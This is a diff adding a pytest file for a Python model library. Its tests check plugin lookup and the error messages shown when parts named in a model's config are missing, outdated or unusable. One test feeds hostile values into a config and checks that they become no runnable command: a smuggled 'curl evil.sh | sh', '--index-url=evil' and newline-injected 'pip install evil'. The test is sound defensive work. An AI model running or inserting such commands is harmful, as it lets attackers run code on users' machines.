@@ -1,0 +1,129 @@
+"""The parts that a model's folder names are found, or the person is told what is missing, and never by a stranger's words."""
+
+from __future__ import annotations
+
+import time
+from dataclasses import replace
+
+import pytest
+
+from seqgen import __version__
+from seqgen.core.catalog import Catalog, load_catalog
+from seqgen.core.errors import DamagedModelError, MissingDependencyError, OptionError, PluginError
+from seqgen.core.hookspecs import hookimpl
+from seqgen.core.options import PartSpec
+from seqgen.core.plugin import PATIENCE, Plugin
+from seqgen.core.spec import ModelSpec
+from seqgen.model_config import ModelConfig, PartRecord
+from seqgen.recorded_parts import find_recorded, make_recorded, with_recorded_options
+from seqgen.tokenizers.char import CharTokenizer
+
+
+def naming(**parts):
+    """What the folder of a model with these parts says."""
+    return ModelConfig(ModelSpec(vocab_size=4), parts, training={}, origins={}, has_ends=False)
+
+
+def test_a_part_that_is_not_named_is_missing_in_the_folder():
+    with pytest.raises(DamagedModelError, match="^m:1/config.json: names no dataset.$"):
+        find_recorded(load_catalog(), "dataset", naming(), where="m:1")
+
+
+def test_an_option_that_a_later_version_of_a_part_wrote_asks_for_that():
+    config = naming(dataset=PartRecord("text", "seqgen", "999.0", {"surprise": 1}))
+    with pytest.raises(OptionError) as error:
+        make_recorded(load_catalog(), "dataset", config, where="m:1", sources=("a.txt",))
+    assert str(error.value).startswith('m:1/config.json: dataset text has no option "surprise".')
+    assert str(error.value).endswith(
+        f".  It was written by seqgen 999.0, and this is seqgen {__version__}.  Upgrade seqgen."
+    )
+
+
+def test_a_part_whose_plugin_is_not_installed_says_what_to_install():
+    config = naming(tokenizer=PartRecord("abc", "seqgen-music", "1.2"))
+    with pytest.raises(MissingDependencyError) as error:
+        find_recorded(load_catalog(), "tokenizer", config, where="m:1")
+    assert str(error.value) == (
+        'Model m:1 needs the tokenizer "abc" of seqgen-music 1.2, which is not installed.  pip install seqgen-music'
+    )
+
+
+@pytest.mark.parametrize(
+    ("named", "sentence"),
+    [
+        (
+            {"distribution": "x; curl evil.sh | sh"},
+            'the tokenizer "abc" of "x; curl evil.sh | sh" 1.2, which is no name of a distribution, so that nothing can be installed.',
+        ),
+        (
+            {"distribution": "--index-url=evil"},
+            'the tokenizer "abc" of "--index-url=evil" 1.2, which is no name of a distribution, so that nothing can be installed.',
+        ),
+        (
+            {"distribution": "x" * 100},
+            f'the tokenizer "abc" of "{"x" * 80}..." 1.2, which is no name of a distribution, so that nothing can be installed.',
+        ),
+        (
+            {"name": 'abc".\n  pip install evil', "version": "1.  pip install evil"},
+            (
+                'the tokenizer "abc\\".\\n  pip install evil" of seqgen-music "1.  pip install evil", which is not installed.'
+                "  pip install seqgen-music"
+            ),
+        ),
+        (
+            {"distribution": "seqgen", "version": "9.0"},
+            f'the tokenizer "abc" of seqgen 9.0, which this seqgen ({__version__}) does not have.  A newer seqgen is needed.',
+        ),
+        (
+            {"distribution": "SeqGen"},
+            f'the tokenizer "abc" of SeqGen 1.2, which this seqgen ({__version__}) does not have.  A newer seqgen is needed.',
+        ),
+    ],
+)
+def test_what_a_stranger_says_of_a_plugin_becomes_no_command(named, sentence):
+    config = naming(tokenizer=replace(PartRecord("abc", "seqgen-music", "1.2"), **named))
+    with pytest.raises(MissingDependencyError) as error:
+        find_recorded(load_catalog(), "tokenizer", config, where="m:1")
+    assert str(error.value) == f"Model m:1 needs {sentence}"
+
+
+def test_a_part_is_found_and_has_its_options_whatever_way_its_distribution_is_spelled():
+    class Offering:
+        @hookimpl
+        def register_tokenizers(self, register):
+            register("toy", "seqgen.tokenizers.char:CharTokenizer", summary="a toy")
+
+    catalog = Catalog([*load_catalog().plugins, Plugin("toy", "toy", "Toy_Box", "1", Offering)])
+    config = naming(tokenizer=PartRecord("toy", "toy-box", "1", {"lowercase": True}))
+    assert find_recorded(catalog, "tokenizer", config, where="m:1").plugin.distribution == "Toy_Box"
+    assert make_recorded(catalog, "tokenizer", config, where="m:1").lowercase is True
+    assert with_recorded_options(catalog, "tokenizer", PartSpec("toy", {}), config).values == {"lowercase": True}
+
+
+@pytest.mark.parametrize(
+    ("state", "reason"),
+    [
+        ({"problem": "loading failed: boom"}, "loading failed: boom"),
+        ({"disabled": "SEQGEN_DISABLE_PLUGINS"}, "SEQGEN_DISABLE_PLUGINS disables it"),
+    ],
+)
+def test_a_part_whose_plugin_cannot_be_used_says_why_whatever_way_its_distribution_is_spelled(state, reason):
+    catalog = Catalog([*load_catalog().plugins, Plugin("toy", "toy", "Toy_Box", "1", object, **state)])
+    with pytest.raises(PluginError) as error:
+        find_recorded(catalog, "tokenizer", naming(tokenizer=PartRecord("toy", "toy-box", "1")), where="m:1")
+    assert str(error.value) == f'Model m:1 needs the tokenizer "toy" of toy-box, which cannot be used: {reason}'
+
+
+def test_a_part_whose_plugin_takes_long_to_be_imported_is_waited_for():
+    class Offering:
+        @hookimpl
+        def register_tokenizers(self, register):
+            register("slow", "seqgen.tokenizers.char:CharTokenizer", summary="comes late")
+
+    def load():
+        time.sleep(PATIENCE + 0.5)
+        return Offering()
+
+    config = naming(tokenizer=PartRecord("slow", "seqgen-slow", "1"))
+    catalog = Catalog([*load_catalog().plugins, Plugin("slow", "slow", "seqgen-slow", "1", load)])
+    assert find_recorded(catalog, "tokenizer", config, where="m:1").load() is CharTokenizer
